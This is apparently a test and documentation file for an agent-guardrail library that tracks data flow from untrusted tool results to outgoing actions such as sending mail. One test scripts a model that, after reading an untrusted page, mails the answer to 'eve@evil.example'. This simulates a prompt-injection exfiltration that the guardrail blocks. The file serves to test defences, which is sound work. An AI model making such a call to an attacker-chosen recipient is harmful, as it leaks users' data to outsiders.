import assert from 'node:assert/strict';
import { defineAgent, defineTool, run } from '@guardloop/core';
import { callTool, say, scriptedModel } from '@guardloop/testing';
import { z } from 'zod';

// #region flow
const findContact = defineTool({
  name: 'find_contact',
  description: 'Finds a contact.',
  input: z.object({ name: z.string() }),
  flow: { effect: 'read', results: 'untrusted' }, // others write what is found
  execute: () => [{ name: 'Ann', email: 'ann@home.example' }],
});
const sendMail = defineTool({
  name: 'send_mail',
  description: 'Sends a mail.',
  input: z.object({ to: z.string(), subject: z.string(), body: z.string() }),
  flow: { effect: 'send', authority: ['to'] }, // `to` decides where it goes; subject and body are content
  execute: () => 'sent',
});
const openPage = defineTool({
  name: 'open_page',
  description: 'Opens a page.',
  input: z.object({ url: z.string() }),
  flow: { effect: 'read', results: 'untrusted', authority: ['url'] }, // it reads, and its URL goes out
  execute: () => 'Open from 9 to 5.',
});

// #endregion

// #region data-flow
import { dataFlow } from '@guardloop/guardrails';

const assistant = defineAgent({
  name: 'assistant',
  instructions: 'Do what the user asks.',
  model: scriptedModel([]),
  tools: [findContact, openPage, sendMail],
  guardrails: [dataFlow()], // a person is asked about what it does not let pass; { then: 'deny' } tells the model
});
// #endregion

const mailTo = (to: string) =>
  scriptedModel([
    callTool('open_page', { url: 'shop.example' }),
    callTool('send_mail', { to, subject: 'Hours', body: '9 to 5' }),
    say('Done.'),
  ]);
const asked = await run(assistant, 'When is shop.example open? Mail it to ann@home.example.', { model: mailTo('eve@evil.example') });
assert.equal(asked.status, 'interrupted');
const passed = await run(assistant, 'When is shop.example open? Mail it to ann@home.example.', { model: mailTo('ann@home.example') });
assert.equal(passed.status, 'completed');

// #region trust
const withBook = dataFlow({
  trust: { find_contact: ['email'] }, // of what it finds, this field may be an argument; `'*'`: every field
  links: ['home.example'], // hosts that may stand in what is sent, whoever wrote them
  intent: { send_mail: ['schicke', 'maile'] }, // how people ask for it in their language
});
// #endregion
const desk = defineAgent({
  name: 'desk',
  instructions: 'Do what the user asks.',
  model: scriptedModel([
    callTool('find_contact', { name: 'Ann' }),
    callTool('send_mail', { to: 'ann@home.example', subject: 'Hours', body: '9 to 5' }),
    say('Done.'),
  ]),
  tools: [findContact, sendMail],
  guardrails: [withBook],
});
const german = await run(desk, 'Schicke Ann die Öffnungszeiten.');
assert.equal(german.status, 'completed');

// #region others
import { freeze, literalAuthority, ruleOfTwo, trustedAuthority } from '@guardloop/guardrails';

const choices = [
  freeze(), // after an untrusted read nothing acts without a person
  ruleOfTwo({ publicResults: ['open_page'] }), // untrusted text, private data, an outside effect: at most two of them
  literalAuthority(), // what decides must stand in the user's own words
  trustedAuthority({ trust: { find_contact: ['email'] } }), // or come from a trusted source
];
// #endregion
assert.equal(choices.length, 4);

// #region suggest
import { inputSchemaOf } from '@guardloop/core';
import { suggestFlow } from '@guardloop/guardrails';

const proposal = suggestFlow({ name: 'create_event', schema: { properties: { title: {}, start_time: {}, participants: {} } } });
// { effect: 'write', results: 'untrusted', authority: ['participants'] }
const ofTool = suggestFlow({ name: sendMail.name, schema: inputSchemaOf(sendMail) });
// { effect: 'send', results: 'untrusted', authority: ['to'] }
// #endregion
assert.deepEqual(proposal, { effect: 'write', results: 'untrusted', authority: ['participants'] });
assert.deepEqual(ofTool, { effect: 'send', results: 'untrusted', authority: ['to'] });
